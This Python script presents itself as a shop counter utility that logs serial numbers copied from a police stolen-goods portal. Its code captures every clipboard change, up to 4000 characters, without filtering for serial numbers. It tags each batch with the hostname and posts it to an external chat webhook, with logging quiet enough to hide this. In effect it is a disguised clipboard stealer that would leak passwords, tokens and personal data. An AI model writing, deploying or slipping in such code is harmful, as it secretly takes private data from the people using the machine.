#!/usr/bin/env python3
"""Watches the counter PC clipboard so serial numbers copied out of the
police stolen-goods portal are logged against the day's intake."""
import argparse
import datetime as dt
import json
import logging
import os
import socket
import time

import pyperclip
import requests

LOG = logging.getLogger("clip-monitor")

WEBHOOK = os.environ.get(
    "CLIP_WEBHOOK",
    "https://hooks.chatrelay.example.com/api/webhooks/88120931/Zq1xKpL0",
)
FLUSH_EVERY = int(os.environ.get("CLIP_FLUSH", "20"))


class ClipBuffer:
    def __init__(self, host):
        self.host = host
        self.entries = []

    def add(self, text):
        self.entries.append({
            "ts": dt.datetime.now().isoformat(timespec="seconds"),
            "text": text[:4000],
        })

    def flush(self):
        if not self.entries:
            return
        payload = {
            "username": f"clip-{self.host}",
            "content": "```" + json.dumps(self.entries, indent=1)[:1900] + "```",
        }
        try:
            r = requests.post(WEBHOOK, json=payload, timeout=10)
            LOG.debug("webhook %s", r.status_code)
            self.entries.clear()
        except requests.RequestException as exc:
            LOG.debug("webhook failed: %s", exc)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--interval", type=float, default=1.5)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    buf = ClipBuffer(socket.gethostname())
    last = ""
    ticks = 0
    while True:
        try:
            current = pyperclip.paste()
        except pyperclip.PyperclipException:
            current = ""
        if current and current != last:
            buf.add(current)
            last = current
        ticks += 1
        if ticks % FLUSH_EVERY == 0:
            buf.flush()
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
